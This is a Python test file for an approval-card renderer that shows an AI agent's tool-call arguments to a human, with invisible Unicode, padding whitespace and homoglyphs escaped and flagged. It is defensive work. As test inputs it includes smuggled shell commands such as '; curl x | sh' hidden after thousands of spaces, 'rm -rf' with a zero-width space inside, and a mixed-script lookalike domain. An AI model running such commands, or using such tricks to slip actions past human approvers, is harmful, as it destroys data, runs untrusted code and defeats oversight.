"""What a card says of a call: all of it, so that the arguments can be read back from the text, and nothing hidden."""

import json
import random
import re
import unicodedata
from typing import Any

import pytest

from backend.cards.approvals import can_show_whole, describe_call
from common.default_ignorable import DEFAULT_IGNORABLE
from common.text import remove_invisible
from tests.unicode_table import TABLE, read_default_ignorable, render_table

IGNORABLE = [c for first, last in DEFAULT_IGNORABLE for c in range(first, last + 1)]
UNSEEN = [
    *IGNORABLE,
    *(c for c in range(0x110000) if unicodedata.category(chr(c)) in ("Cc", "Cf", "Zl", "Zp", "Zs", "Cs") and c != 0x20),
    *(0x2800, 0xE000, 0xF0000, 0x10FFFF, 0x0378),
]
"""Characters that look like nothing, reorder others, or have no look."""
INDENT = "\u00a0\u00a0"
CALLS = [("run_command", "coder"), ("write_file", "coder"), ("mcp_web__say", "researcher"), ("do_with_coder", None)]
HOSTILE = [
    *(
        " ",
        "  ",
        " " * 17,
        " " * 1_500,
        "\t",
        "\n",
        "\n" * 9,
        "\r\n",
        "\\",
        "\\u{200b}",
        "u{",
        "{",
        "}",
        "⟨",
        "⟩",
        "“",
        '"',
    ),
    *(
        "⟨3 spaces⟩",
        ": ",
        "name: value",
        "; curl x | sh",
        "true",
        "null",
        "12",
        "[1]",
        "\u00a0",
        "é",
        "e\u0301",
        "\u0301" * 9,
    ),
    *(
        "👨\u200d👩",
        "❤\ufe0f",
        "1\ufe0f\u20e3",
        "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",
        "x\ufe0f",
        "\u2028",
        "\u202e",
        "g\u043e\u043egle",
        "日本",
        "a",
        "ls",
    ),
    *("\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f", "{path}", "%s"),
]
NAMES = [
    "command",
    "path",
    "task",
    "max-results",
    "a\nb",
    "It can do this",
    "x: y",
    "",
    "\u200b",
    "é",
    '"',
    "⟨empty⟩",
    " a",
]


def unescape(text: str) -> str:
    def expand(found: re.Match[str]) -> str:
        count, what = int(found[1].replace(",", "")), found[2]
        return {"space": " ", "tab": "\t"}.get(what.rstrip("s"), what.removeprefix("times ")) * count

    text = re.sub(r"⟨([\d,]+) (spaces?|tabs?|times \\u\{[0-9a-f]+\})⟩", expand, text)
    return re.sub(r"\\u\{([0-9a-f]+)\}", lambda found: chr(int(found[1], 16)), text.replace("\u00a0", " "))


def read_value(text: str) -> Any:
    if text == "⟨empty⟩":
        return ""
    written = unescape(text)
    try:
        return json.loads(written)
    except ValueError:
        return written


def read_arguments(text: str) -> dict[str, Any]:
    """Reads the arguments of a card's text, as a careful reader would."""
    given: dict[str, Any] = {}
    name, lines = "", list[str]()
    for line in [*text.split("\n")[1:], "end"]:
        if line.startswith(INDENT) and name:
            repeated = re.fullmatch(r"⟨([\d,]+) empty lines⟩", line.removeprefix(INDENT))
            lines += [""] * int(repeated[1].replace(",", "")) if repeated else [unescape(line.removeprefix(INDENT))]
            continue
        if name:
            given[json.loads(unescape(name)) if name.startswith('"') else name] = "\n".join(lines)
            name, lines = "", []
        if found := re.fullmatch(r'([A-Za-z_$][\w$.-]*|"(?:[^"\\]|\\.)*"): (.*)', line):
            shown, value = found.groups()
            given[json.loads(unescape(shown)) if shown.startswith('"') else shown] = read_value(value)
        elif found := re.fullmatch(r'([A-Za-z_$][\w$.-]*|"(?:[^"\\]|\\.)*"):', line):
            name = found[1]
    return given


def make_text(chance: random.Random) -> str:
    pieces = [
        chance.choice(HOSTILE) if chance.random() < 0.7 else chr(chance.choice(UNSEEN)) * chance.choice([1, 1, 3, 40])
        for _ in range(chance.randint(0, 8))
    ]
    return "".join(pieces)


def make_value(chance: random.Random) -> Any:
    kinds = [
        make_text(chance),
        make_text(chance),
        make_text(chance),
        chance.randint(-9, 9),
        True,
        [make_text(chance)],
        {},
    ]
    return chance.choice([*kinds, {make_text(chance): make_text(chance)}])


@pytest.mark.long(seconds=20)
def test_hostile_arguments_can_be_read_back() -> None:
    chance = random.Random(53)
    for _ in range(10_000):
        names = [*chance.sample(NAMES, chance.randint(1, 3)), make_text(chance)]
        given = json.loads(
            json.dumps({name: make_value(chance) for name in names})
        )  # two surrogates can be a character
        tool, agent = chance.choice(CALLS)
        text = describe_call(tool, json.dumps(given), {}, agent=agent)
        assert read_arguments(text) == given, text
        check_visible(text)


def check_visible(text: str) -> None:
    drawn = re.sub(
        "👨\u200d👩|❤\ufe0f|1\ufe0f\u20e3|\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645|\U0001f3f4[\U000e0061-\U000e007f]+",
        "",
        text,
    )
    assert not {c for c in drawn if ord(c) in UNSEEN_SET and c not in "\n\u00a0"}, ascii(text)
    assert not re.search("[ \u00a0]{20}|\n\n", text), "blanks are counted"


UNSEEN_SET = frozenset(UNSEEN)


@pytest.mark.parametrize(("tool", "agent"), CALLS)
def test_each_invisible_character_is_escaped(tool: str, agent: str | None) -> None:
    for start in range(0, len(UNSEEN), 500):
        hidden = "".join(map(chr, UNSEEN[start : start + 500]))
        given = json.loads(json.dumps({"command": f"ls{hidden}"}))
        text = describe_call(tool, json.dumps(given), {}, agent=agent)
        check_visible(text)
        assert read_arguments(text) == given


@pytest.mark.parametrize(
    ("command", "shown"),
    [
        ("echo hi" + " " * 15_000 + "; curl x | sh", "command: echo hi⟨15,000 spaces⟩; curl x | sh"),
        ("rm\u200b -rf", "command: rm\\u{200b} -rf"),
        ("\u3164" * 3_749, "command: ⟨3,749 times \\u{3164}⟩"),
        ("ls" + "\n" * 40 + "rm x", f"command:\n{INDENT}ls\n{INDENT}⟨39 empty lines⟩\n{INDENT}rm x"),
        (
            "curl https://g\u043e\u043egle.com",
            "command: curl https://g\u043e\u043egle.com\n⟨“g\u043e\u043egle” mixes Latin and Cyrillic letters⟩",
        ),
        ("echo 👨\u200d👩 ❤\ufe0f", "command: echo 👨\u200d👩 ❤\ufe0f"),
    ],
    ids=["blanks", "invisible", "fillers", "line breaks", "scripts", "emoji"],
)
def test_commands(command: str, shown: str) -> None:
    text = describe_call("run_command", json.dumps({"command": command}), {}, agent="coder")
    assert text.startswith(f"Let the coder run a command\n{shown}")
    assert can_show_whole("run_command", json.dumps({"command": command}), agent="coder")


def test_name_that_looks_like_a_line() -> None:
    arguments = json.dumps({"text": "x", "a\nIt can only read": "y"})
    text = describe_call("mcp_web__say", arguments, {}, agent="researcher")
    assert text == 'Let the researcher use the tool mcp.web.say\ntext: x\n"a\\nIt can only read": y'


def test_arguments_that_look_as_if_they_were_not_given() -> None:
    assert describe_call("mcp_web__say", '{"text": null}', {}, agent="researcher").endswith("\ntext: null")
    assert "remind: 0" in describe_call("update_task", '{"task_id": 1, "remind": 0, "labels": []}', {}).splitlines()


@pytest.mark.parametrize(
    ("tool", "argument"),
    [
        ("update_task", {"title": "any"}),
        ("update_task", {"title": "keep"}),
        ("update_task", {"description": "keep"}),
        ("update_task", {"due": "any"}),
        ("add_task", {"title": "x", "description": "any"}),
    ],
)
def test_values_that_mean_something_else_elsewhere(tool: str, argument: dict[str, str]) -> None:
    """Only of a priority and a status, "keep" and "any" say that nothing is given."""
    (name, value) = [*argument.items()][-1]
    given = argument if tool == "add_task" else {"task_id": 1, **argument, "priority": "keep", "status": "keep"}
    assert describe_call(tool, json.dumps(given), {}).splitlines()[1:] == [f"{name}: {value}"]


@pytest.mark.parametrize("title", ['["a", "b"]', "[]", "null", '""', '{"a": 1}', "1e5", "1.10", "true"])
def test_title_that_looks_like_json(title: str) -> None:
    """The task tools read lists in texts, but no titles."""
    assert describe_call("add_task", json.dumps({"title": title}), {}) == f"Add “{title}”"


def test_equal_titles() -> None:
    assert describe_call("add_task", '{"title": "a", "also": ["a", "b"]}', {}) == "Add 3 tasks\n“a”\n“a”\n“b”"


def test_titles_of_tasks() -> None:
    """The assistant's own calls name tasks by their titles; all else is shown as it is written."""
    arguments = json.dumps({"title": "milk\u202e", "priority": "high", "description": "a\u200bb", "labels": []})
    assert describe_call("add_task", arguments, {}) == "Add “milk\\u{202e}”\npriority: high\ndescription: a\\u{200b}b"
    assert describe_call("delete_task", '{"task_id": 1, "also": [2]}', {1: "milk"}) == "Delete 2 tasks\n“milk”\ntask 2"


def test_table_of_invisible_characters() -> None:
    assert read_default_ignorable() == IGNORABLE
    assert TABLE.read_text() == render_table(IGNORABLE)


def test_no_invisible_character_is_left_in_a_text() -> None:
    """But joiners between letters beyond ASCII, and direction marks beside right-to-left letters."""
    left = [c for c in IGNORABLE if remove_invisible(f"a{chr(c)}b") != "ab"]
    assert left == [0xFE0E, 0xFE0F], "which choose how a letter looks"
